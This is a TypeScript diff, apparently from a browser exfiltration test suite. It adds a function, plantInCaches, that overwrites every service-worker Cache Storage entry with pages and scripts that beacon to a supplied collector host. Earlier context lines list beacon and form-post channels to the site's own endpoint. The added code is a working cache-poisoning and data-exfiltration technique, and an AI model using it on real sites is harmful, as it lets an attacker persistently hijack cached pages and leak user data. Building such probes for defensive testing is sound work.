@@ -78,3 +78,28 @@ export const ownChannels: Readonly<Record<string, string>> = {
   ownBeacon: `if (navigator.sendBeacon('/rest/v1/contact_messages', 'secret')) throw 'sent'`,
   ownForm: `const form = element('form', { action: '/rest/v1/contact_messages', method: 'post' }); form.submit()`,
 };
+
+/**
+ * A way out by a detour: writes pages and scripts that send data out, and carry no policy, over all that the service
+ * worker has stored, and beside it. Returns how many answers it planted.
+ */
+export async function plantInCaches(collector: string): Promise<number> {
+  const script = `new Image().src = '${collector}planted'; fetch('${collector}planted', { mode: 'no-cors' });`;
+  const plant = (isScript: boolean) =>
+    new Response(isScript ? script : `<!doctype html><title>Planted</title><script>${script}</script>`, {
+      headers: { 'content-type': isScript ? 'text/javascript' : 'text/html' },
+    });
+  const keys = new Set(['/', '/all-tools', '/tools/hash-generator', location.pathname]);
+  const names = new Set(['assets', 'pages', ...(await caches.keys())]);
+  for (const name of names) {
+    for (const { url } of await (await caches.open(name)).keys()) {
+      keys.add(url);
+      keys.add(new URL(url).pathname);
+    }
+  }
+  for (const name of names) {
+    const cache = await caches.open(name);
+    for (const key of keys) await cache.put(key, plant(new URL(key, location.href).pathname.endsWith('.js')));
+  }
+  return keys.size * names.size;
+}
